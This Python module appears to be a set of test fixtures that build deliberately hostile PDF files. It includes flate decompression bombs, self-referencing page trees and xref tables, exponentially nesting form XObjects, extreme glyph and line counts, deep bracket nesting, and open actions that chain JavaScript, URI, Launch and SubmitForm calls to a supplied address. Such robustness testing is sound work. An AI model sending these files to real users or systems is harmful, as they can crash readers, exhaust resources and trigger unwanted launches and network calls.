"""PDF files made to harm who reads them, from objects written by hand."""

from __future__ import annotations

import zlib
from collections.abc import Mapping, Sequence


def pdf(objects: Mapping[int, bytes], root: int = 1, further: bytes = b"") -> bytes:
    """Make a file of objects by their numbers, with its table and its trailer."""
    made = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(made)
    made += b"xref\n"
    for number, place in places.items():
        made += b"%d 1\n%010d 00000 n \n" % (number, place)
    size = max(objects) + 1
    made += b"trailer\n<</Size %d/Root %d 0 R%b>>\n" % (size, root, further)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    """Write a stream with its length, or with another one."""
    said = len(content) if length is None else length
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, said, content)


def pages(texts: Sequence[bytes], catalogue: bytes = b"") -> bytes:
    """Make a file of one page a text, in letters that every reader has."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogue,
        3: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    kids = []
    for number, text in enumerate(texts):
        page, content = 4 + 2 * number, 5 + 2 * number
        kids.append(b"%d 0 R" % page)
        objects[page] = b"<<%b/Contents %d 0 R>>" % (_PAGE, content)
        objects[content] = stream(text)
    objects[2] = b"<</Type/Pages/Kids[%b]/Count %d>>" % (b" ".join(kids), len(kids))
    return pdf(objects)


_PAGE = (
    b"/Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]"
    b"/Resources<</Font<</F 3 0 R>>/XObject<</X 9 0 R>>>>"
)
WORDS = b"BT /F 12 Tf 72 720 Td (Measures of the year) Tj ET"


def with_content(content: bytes, further: Mapping[int, bytes] | None = None) -> bytes:
    """Make a file of one page with a stream of content as it is to stand there."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        3: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        4: b"<<%b/Contents 5 0 R>>" % _PAGE,
        5: content,
    }
    return pdf({**objects, **(further or {})})


def flate_bomb(megabytes: int, times: int = 1) -> bytes:
    """Make a page whose content unpacks to so many MB, packed several times."""
    packer = zlib.compressobj(1)
    content = b"".join(packer.compress(b" " * 1_000_000) for _ in range(megabytes))
    content += packer.flush()
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    names = b"/FlateDecode " * times
    return with_content(stream(content, b"/Filter[%b]" % names))


def own_parents() -> bytes:
    """Let the tree of pages hold itself."""
    tree = b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000/Parent 2 0 R>>"
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: tree})


def own_form() -> bytes:
    """Let a form draw itself, twice each time."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 9 0 R>>>>"
    return with_content(stream(WORDS + b" /X Do"), {9: stream(b"/X Do /X Do", form)})


def forms_of_forms(depth: int = 20) -> bytes:
    """Let a form draw ten others, and each of them ten, and so on."""
    forms = {}
    for number in range(9, 9 + depth):
        entries = (
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 3 0 R>>"
            b"/XObject<</X %d 0 R>>>>" % (number + 1)
        )
        forms[number] = stream(b"/X Do " * 10, entries)
    forms[9 + depth] = stream(WORDS, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return with_content(stream(b"/X Do"), forms)


def own_table() -> bytes:
    """Let the table of objects say that an earlier one is itself."""
    made = pages([WORDS])
    start = made.rindex(b"startxref\n") + len(b"startxref\n")
    place = made[start:].split(b"\n")[0]
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %b" % place)


def letters(count: int) -> bytes:
    """Make a page with so many letters, one upon the other."""
    return with_content(stream(b"BT /F 1 Tf 72 720 Td (%b) Tj ET" % (b"a" * count)))


def lines(count: int) -> bytes:
    """Make a page with so many lines that cross."""
    level = (b"0 %d.5 m 595 %d.5 l S " % (n % 842, n % 842) for n in range(count // 2))
    upright = (b"%d.5 0 m %d.5 842 l S " % (n % 595, n % 595) for n in range(count // 2))
    return with_content(stream(WORDS + b" " + b"".join([*level, *upright])))


def with_actions(address: str) -> bytes:
    """Make a file that would run a script, start a program and call an address when opened."""
    to = address.encode()
    actions = (
        b"<</S/JavaScript/JS(app.launchURL\\('%b'\\))/Next<</S/URI/URI(%b)"
        b"/Next<</S/Launch/F(touch macro-ran)/Next<</S/SubmitForm/F(%b)>>>>>>>>"
    ) % (to, to, to)
    return pages([WORDS], b"/OpenAction %b/AA<</WC %b>>" % (actions, actions))


DEEP = b"[" * 200_000 + b"]" * 200_000
